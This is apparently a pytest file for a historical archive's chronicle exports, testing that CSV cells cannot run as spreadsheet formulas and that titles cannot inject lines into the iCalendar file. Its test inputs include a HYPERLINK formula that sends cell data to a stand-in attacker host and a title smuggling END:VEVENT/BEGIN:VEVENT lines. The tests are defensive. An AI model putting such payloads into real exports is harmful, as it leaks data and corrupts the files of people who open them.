"""The 大事记 exports: nothing an editor types can become a formula or break the calendar file."""

import csv
import datetime
import io

import icalendar
import pytest

from gazetteer.exports import csv_cell, last_day
from gazetteer.models import DatePrecision, Entry

pytestmark = pytest.mark.django_db


def a_chronicle_item(**fields):
    item = Entry.objects.chronicle().exclude(date=None).order_by("date", "position").first()
    Entry.objects.filter(pk=item.pk).update(**fields)  # no save signal: nothing queued for the index
    item.refresh_from_db()
    return item


def csv_rows(client, **params):
    response = client.get("/chronicle/export.csv", params)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def events(client, **params):
    response = client.get("/chronicle/export.ics", params)
    assert response.status_code == 200
    return icalendar.Calendar.from_ical(response.content).walk("VEVENT")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_defused(start):
    assert csv_cell(f'{start}HYPERLINK("http://evil.example","x")') == f'\'{start}HYPERLINK("http://evil.example","x")'


def test_the_csv_export_defuses_a_formula_in_a_title(client):
    item = a_chronicle_item(title='=HYPERLINK("http://evil.example/?"&A1,"点击")', text="@SUM(1+1)")
    day = item.date.isoformat()
    rows = csv_rows(client, date_from=day, date_to=day)
    row = next(r for r in rows if r[6].endswith(f"/entries/{item.pk}/"))
    assert row[2] == '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'
    assert row[3] == "'@SUM(1+1)"
    assert row[0] == day  # the archive's own values are left as they are


def test_a_bare_carriage_return_in_a_title_cannot_start_a_new_calendar_line(client):
    item = a_chronicle_item(title="团拜会\rEND:VEVENT\rBEGIN:VEVENT")
    day = item.date.isoformat()
    response = client.get("/chronicle/export.ics", {"date_from": day, "date_to": day})
    lines = response.content.decode().split("\r\n")
    assert "END:VEVENT" in lines and not any("\r" in line for line in lines)
    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") == len(events(client, date_from=day, date_to=day))
    found = [e for e in events(client, date_from=day, date_to=day) if e["uid"].startswith(f"entry-{item.pk}@")]
    assert str(found[0]["summary"]) == "团拜会\nEND:VEVENT\nBEGIN:VEVENT"


def test_the_last_day_a_date_can_hold_exports_without_an_error(client):
    item = a_chronicle_item(date=datetime.date(9999, 12, 31), date_end=None, date_precision="")
    (event,) = events(client, date_from="9999-12-01")
    assert event["uid"].startswith(f"entry-{item.pk}@")
    assert event["dtstart"].dt == datetime.date(9999, 12, 31)
    assert event["duration"].dt == datetime.timedelta(days=1)


def test_an_item_dated_to_a_month_is_one_all_day_event_over_the_whole_month(client):
    item = a_chronicle_item(
        date=datetime.date(1901, 2, 1), date_end=datetime.date(1901, 2, 28), date_precision=DatePrecision.MONTH
    )
    (event,) = events(client, date_from="1901-01-01", date_to="1901-12-31")
    assert event["uid"].startswith(f"entry-{item.pk}@")
    assert event["dtstart"].dt == datetime.date(1901, 2, 1)
    assert event["duration"].dt == datetime.timedelta(days=28)
    assert type(event["dtstart"].dt) is datetime.date  # all day, not a time


@pytest.mark.parametrize(
    "date, precision, last",
    [
        ("2020-03-01", DatePrecision.DAY, "2020-03-01"),
        ("2020-03-11", DatePrecision.XUN, "2020-03-20"),
        ("2020-02-21", DatePrecision.XUN, "2020-02-29"),
        ("2020-02-01", DatePrecision.MONTH, "2020-02-29"),
        ("2020-10-01", DatePrecision.SEASON, "2020-12-31"),
        ("2020-01-01", DatePrecision.YEAR, "2020-12-31"),
    ],
)
def test_an_item_without_an_end_date_covers_its_period(date, precision, last):
    assert last_day(datetime.date.fromisoformat(date), None, precision) == datetime.date.fromisoformat(last)
